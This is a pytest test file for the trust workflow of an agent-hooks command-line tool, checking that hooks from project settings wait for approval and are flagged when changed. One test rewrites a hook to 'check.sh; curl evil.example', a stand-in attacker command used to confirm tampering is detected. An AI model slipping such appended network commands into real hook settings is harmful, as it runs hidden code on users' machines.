"""`desktop-agent hooks`: what is defined and in force, and the answer about a project's."""

import json
import os
from pathlib import Path
from typing import Any

import pytest

from tests.command_line import CommandLine


def claude(folder: Path, command: str) -> None:
    (folder / ".claude").mkdir(parents=True, exist_ok=True)
    entry = {"matcher": "Bash", "hooks": [{"type": "command", "command": command}]}
    (folder / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"PreToolUse": [entry]}}))


@pytest.fixture
def line(capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> CommandLine:
    (tmp_path / "app").mkdir()
    monkeypatch.chdir(tmp_path / "app")
    return CommandLine(capsys)


def hooks_of(line: CommandLine) -> list[dict[str, Any]]:
    return line.done("hooks", "list", "--json").json["hooks"]


def states(line: CommandLine) -> list[tuple[str, str]]:
    return [(hook["command"], hook["state"]) for hook in hooks_of(line)]


def trusts(line: CommandLine) -> list[str]:
    return [hook["trust"] for hook in hooks_of(line)]


def test_a_folder_without_hooks_says_so(line: CommandLine) -> None:
    assert line.done("hooks", "list").out == "No hook is defined.\n"


def test_a_projects_hook_waits_is_trusted_and_waits_again_when_it_changes(line: CommandLine, tmp_path: Path) -> None:
    claude(tmp_path / "app", "./check.sh")
    assert states(line) == [("./check.sh", "waiting")]
    shown = line.done("hooks", "trust", "--dry-run").out
    assert "PreToolUse (Bash): ./check.sh (sha256 " in shown
    assert states(line) == [("./check.sh", "waiting")]
    line.done("hooks", "trust")
    assert states(line) == [("./check.sh", "in force")]
    assert trusts(line) == ["trusted"]
    (tmp_path / "app" / "check.sh").write_text("exit 2\n")
    assert states(line) == [("./check.sh", "waiting")]
    assert trusts(line) == ["changed"]
    line.done("hooks", "trust", "--ignore")
    assert (states(line), trusts(line)) == ([("./check.sh", "off")], ["untrusted"])
    assert line("hooks", "trust").code == 2


def test_a_hook_that_changed_is_told_from_one_that_is_new(line: CommandLine, tmp_path: Path) -> None:
    claude(tmp_path / "app", "./check.sh")
    assert trusts(line) == ["untrusted"]
    line.done("hooks", "trust")
    claude(tmp_path / "app", "./check.sh; curl evil.example")
    assert trusts(line) == ["changed"]
    mark = "changed since your last answer"
    assert mark in line.done("hooks", "list").out
    assert mark in line.done("hooks", "trust", "--dry-run").out
    assert mark in line.done("config", "trust", "--dry-run").out
    assert line.done("config", "trust", "--dry-run", "--json").json["items"][0]["changed"] is True
    line.done("config", "trust")
    assert trusts(line) == ["trusted"]
    (tmp_path / "app" / ".codex").mkdir()
    (tmp_path / "app" / ".codex" / "hooks.json").write_text(json.dumps({"hooks": {"Stop": [{"command": "x"}]}}))
    assert trusts(line) == ["trusted", "untrusted"]
    assert mark not in line.done("hooks", "list").out


def test_one_trust_for_all_that_a_project_brings_covers_its_hooks(line: CommandLine, tmp_path: Path) -> None:
    claude(tmp_path / "app", "./check.sh")
    document = line.done("config", "trust", "--dry-run", "--json").json
    assert [item["kind"] for item in document["items"]] == ["hook"]
    line.done("config", "trust")
    assert states(line) == [("./check.sh", "in force")]


def test_hooks_of_other_programs_run_once_they_are_switched_on(line: CommandLine) -> None:
    claude(Path(os.environ["HOME"]), "touch x")
    assert states(line) == [("touch x", "off")]
    assert "hooks.from_home true" in line.done("hooks", "list").out
    line.done("config", "set", "hooks.from_home", "true")
    assert states(line) == [("touch x", "in force")]
    digest = line.done("hooks", "list", "--json").json["hooks"][0]["digest"]
    line.done("config", "set", "hooks.off", json.dumps([digest]))
    assert states(line) == [("touch x", "off")]


def test_what_cannot_be_used_is_listed(line: CommandLine, tmp_path: Path) -> None:
    (tmp_path / "app" / ".claude").mkdir()
    (tmp_path / "app" / ".claude" / "settings.json").write_text('{"hooks": {"PreToolUse": [{"type": "prompt"}]}}')
    document = line.done("hooks", "list", "--json").json
    assert not document["hooks"]
    assert "not supported" in document["problems"][0]
